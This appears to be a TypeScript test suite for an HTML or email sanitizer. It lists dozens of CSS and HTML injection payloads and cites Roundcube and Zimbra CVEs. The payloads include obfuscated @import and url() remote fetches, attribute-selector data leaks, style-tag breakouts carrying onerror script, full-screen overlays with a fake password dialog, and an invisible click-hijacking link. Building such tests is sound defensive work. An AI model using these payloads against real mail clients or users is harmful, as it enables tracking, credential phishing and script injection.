/** CSS that fetches, and CSS that draws where it should not. */
import { clicked, html } from "./trick.ts";
import type { Bait, Family } from "./trick.ts";

const sheet = (css: (bait: Bait) => string) => (bait: Bait) =>
  `<style>${css(bait)}</style><p class=a data-x=1>x</p><ul><li>y</ul>`;

export const styles: Family = {
  name: "CSS that fetches",
  tricks: [
    // Zimbra CVE-2025-66376, Roundcube CVE-2021-26925
    html(
      "asks",
      "@import",
      sheet(
        ({ url }) =>
          `@import url(${url("1.css")}); @import "${url("2.css")}" screen; @import '${url("3.css")}' layer(x) supports(display: block);`,
      ),
    ),
    html(
      "asks",
      "@import in pieces",
      sheet(({ url }) => `@imp\\6frt "${url("4.css")}"; @\\69mport url("${url("5.css")}");`),
    ),
    html(
      "asks",
      "@import behind a comment",
      sheet(({ url }) => `/* x */@import/**/"${url("6.css")}";<!-- @import "${url("7.css")}"; -->`),
    ),
    html(
      "asks",
      "@import with a broken one before",
      sheet(({ url }) => `@import;@charset "x";@import url(${url("8.css")})`),
    ),
    html(
      "asks",
      "@import by data",
      sheet(({ url }) => `@import "data:text/css,@import '${url("9.css")}';";`),
    ),
    html(
      "asks",
      "url()",
      sheet(({ url }) => `p{background:url(${url("1.png")})}`),
    ),
    // Roundcube #6178 (efail 2018)
    html(
      "asks",
      "url() by escapes",
      sheet(
        ({ url }) =>
          `p{background:\\75 \\72 \\6C (x);background:u\\72l(${url("2.png")});background-image:\\75rl('${url("3.png")}')}`,
      ),
    ),
    html(
      "asks",
      "the address by escapes",
      sheet(
        ({ host }) => `p{background:url(\\68\\74tp:\\2f\\2f ${host}/4.png);background:url("http\\3a//${host}/5.png")}`,
      ),
    ),
    html(
      "asks",
      "url() over lines",
      sheet(({ url }) => `p{background:url(\n\t"${url("6.png")}"\n)}li{background:url("${url("7")}\\\n.png")}`),
    ),
    html(
      "asks",
      "url() left open",
      sheet(({ url }) => `p{background:url(${url("8.png")}`),
    ),
    html(
      "asks",
      "url() behind strings and comments",
      sheet(({ url }) => `p{content:"/*";background:url(${url("9.png")});color:"*/"}`),
    ),
    html(
      "asks",
      "quotes that a comment seems to open",
      sheet(({ url }) => `p{quotes:"\\"/*" "'";background:url(${url("9b.png")})}/* " */`),
    ),
    // Roundcube 1.6.16: var()
    html(
      "asks",
      "var()",
      sheet(
        ({ url }) =>
          `:root{--a:url(${url("10.png")})}p{background:var(--a)}li{list-style:var(--b,url(${url("11.png")}))}`,
      ),
    ),
    html(
      "asks",
      "@property and var()",
      sheet(
        ({ url }) =>
          `@property --u{syntax:"<image>";inherits:true;initial-value:url(${url("12.png")})}p{background:var(--u)}`,
      ),
    ),
    html(
      "nothing",
      "attr()",
      sheet(
        ({ url }) =>
          `p{background:url(${url("attr.png")});background-image:attr(data-x type(<image>), url(${url("13.png")}))}`,
      ),
    ),
    html(
      "asks",
      "image-set",
      sheet(
        ({ url }) =>
          `p{background:image-set("${url("14.png")}" 1x)}li{background:-webkit-image-set(url("${url("15.png")}") 1x)}`,
      ),
    ),
    html(
      "asks",
      "cross-fade, image, src, element, paint",
      sheet(
        ({ url }) =>
          `p{background:-webkit-cross-fade(url("${url("16.png")}"),url("${url("17.png")}"),50%)}li{background:image("${url("18.png")}");background:src("${url("19.png")}");background:element(#x)}`,
      ),
    ),
    html(
      "asks",
      "every property that takes a picture",
      sheet(
        ({ url }) =>
          `p{background:url(${url("20.png")});border-image:url(${url("21.png")}) 9;mask:url(${url("22.png")});-webkit-mask-image:url(${url("23.png")});shape-outside:url(${url("24.png")});float:left}li{list-style-image:url(${url("25.png")})}p::before{content:url(${url("26.png")})}li::marker{content:url(${url("27.png")})}`,
      ),
    ),
    html(
      "asks",
      "filter, clip-path, offset-path",
      sheet(
        ({ url }) =>
          `p{filter:url(${url("28.svg")}#f);clip-path:url(${url("29.svg")}#c);offset-path:url(${url("30.svg")}#o);backdrop-filter:url(${url("31.svg")}#b);-webkit-box-reflect:below 1px url(${url("32.png")})}`,
      ),
    ),
    html(
      "asks",
      "cursor",
      sheet(({ url }) => `body,p{cursor:url(${url("33.cur")}),auto}`),
    ),
    html(
      "asks",
      "@font-face",
      sheet(
        ({ url }) =>
          `@font-face{font-family:z;src:url(${url("34.woff")}),url("${url("35.woff2")}") format("woff2")}p{font-family:z}`,
      ),
    ),
    // "Stealing data with CSS" (Heiderich et al., Scriptless Attacks, 2012)
    html(
      "asks",
      "a font for each letter",
      sheet(({ url }) => `@font-face{font-family:l;src:url(${url("x.woff")});unicode-range:U+78}p{font-family:l}`),
    ),
    html(
      "asks",
      "@counter-style, @page, @namespace",
      sheet(
        ({ url }) =>
          `@namespace x "${url("ns")}";@counter-style c{system:cyclic;symbols:url(${url("36.png")}) x}li{list-style:c}@page{background:url(${url("37.png")})}@media all{p{background:url(${url("38.png")})}}`,
      ),
    ),
    html(
      "asks",
      "@supports, @container, @layer, nesting",
      sheet(
        ({ url }) =>
          `@layer z{p{background:url(${url("39.png")})}}@supports (color:red){ul{& li{background:url(${url("40.png")})}}}@scope(body){p{border-image:url(${url("41.png")}) 1}}`,
      ),
    ),
    html(
      "asks",
      "@starting-style and animation",
      sheet(({ url }) => `@keyframes k{from{background:url(${url("42.png")})}}p{animation:k 9s}`),
    ),
    html(
      "asks",
      "attribute selectors that tell",
      sheet(
        ({ url }) =>
          `p[data-x^="1"]{background:url(${url("has-1.png")})}body:has(li){list-style:url(${url("has-li.png")})}`,
      ),
    ),
    html(
      "asks",
      "an inline style",
      ({ url, host }) =>
        `<p style="background:url('${url("i1.png")}')">x</p><p style="background-image:url(//${host}/i2.png)">x</p><p style='background:url("${url("i3.png")}"'>x</p>`,
    ),
    html(
      "asks",
      "an inline style, by characters",
      ({ url }) =>
        `<p style="background:&#117;&#114;&#108;(${url("i4.png")})">x</p><p style="background:\\55\\52\\4c(${url("i5.png")})">x</p>`,
    ),
    html(
      "asks",
      "a style that ends in the middle",
      ({ url }) =>
        `<style>p{color:red}</style x=1><img src="${url("s1.png")}"></style ><style>p{}<\\/style><img src=${url("s2.png")}></style>`,
    ),
    // own finding: escapes resolved by a cleaner may close the element
    html("nothing", "escapes that a cleaner might resolve to an end tag", ({ run }) =>
      `<style>a{}\\3c/style\\3e\\3cimg src=x onerror=${run}\\3e <\\/style><img src=x onerror=${run}></style>`.replace(
        `<\\/style><img`,
        `\\<\\/style\\>\\<img`,
      ),
    ),
    html("nothing", "an end tag that appears once comments are gone", ({ run }) =>
      `<style>a{}<<!--/style><!--img src=x onerror=${run}--></style>`.replace("<<!--/style>", "<<!--/sty/**/le>"),
    ),
    html(
      "asks",
      "style by an attribute of presentation",
      ({ url }) =>
        `<font color="red;background:url(${url("f.png")})">x</font><table><td style="x:expression(0);background:url(${url("td.png")})">y</td></table>`,
    ),
    html(
      "nothing",
      "an image in a data: sheet",
      ({ url }) =>
        `<p style="background:url(data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg'><image href='${url("d.png")}'/></svg>)">x</p>`,
    ),
  ],
};

const cover = `position:fixed;inset:0;top:0;left:0;width:100vw;height:100vh;background:#f00;z-index:2147483647`;

export const overlays: Family = {
  name: "drawing beyond the message",
  tricks: [
    // Roundcube #5264, #6898, 1.6.14 (!important)
    html("nothing", "position: fixed", () => `<div style="${cover}">cover</div>`),
    html(
      "nothing",
      "position: fixed, !important, in a sheet",
      () => `<style>h1{position : fixed !important;${cover}}</style><h1>cover</h1>`,
    ),
    html(
      "nothing",
      "absolute, far out",
      () =>
        `<div style="position:absolute;top:-9999px;left:-9999px;width:99999px;height:99999px;background:red">cover</div>`,
    ),
    html(
      "nothing",
      "negative margins and transforms",
      () => `<div style="margin:-500px;transform:translate(-500px,-500px) scale(50);background:red">cover</div>`,
    ),
    html(
      "nothing",
      "enormous outlines and shadows",
      () =>
        `<div style="outline:2000px solid red;box-shadow:0 0 0 3000px red;border:900px solid red;text-shadow:-900px -900px red">cover</div>`,
    ),
    html(
      "nothing",
      "a dialog that is open",
      () => `<dialog open style="${cover}">Your session has expired. <input type=password></dialog>`,
    ),
    html("nothing", "a popover", () => `<div popover style="display:block;${cover}">cover</div>`),
    html(
      "nothing",
      "a pointer of its own, drawn beyond the frame",
      () =>
        `<style>*{cursor:url("data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==") 0 0,none;cursor:none!important}</style><p>x</p>`,
    ),
    html(
      "nothing",
      "the whole view: html and body made large",
      () =>
        `<html style="position:fixed;${cover}"><body style="position:absolute;inset:-5000px;background:red;overflow:visible!important">x</body></html>`,
    ),
    html(
      "nothing",
      "text that climbs out of its line",
      () => `<p style="line-height:0;margin-top:-300px">${"Z" + "\u0353\u030d\u0334\u0489".repeat(400)}</p>`,
    ),
    html(
      "nothing",
      "a picture of enormous size",
      () =>
        `<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" width=99999 height=99999 style="position:fixed;max-width:none!important;inset:0">`,
    ),
    // Roundcube #6897: a link over everything
    clicked(
      "asks",
      "a link over everything",
      ({ url }) => `<a id=go href="${url("everywhere")}" target=_top style="${cover};opacity:.01">x</a>`,
    ),
  ],
};
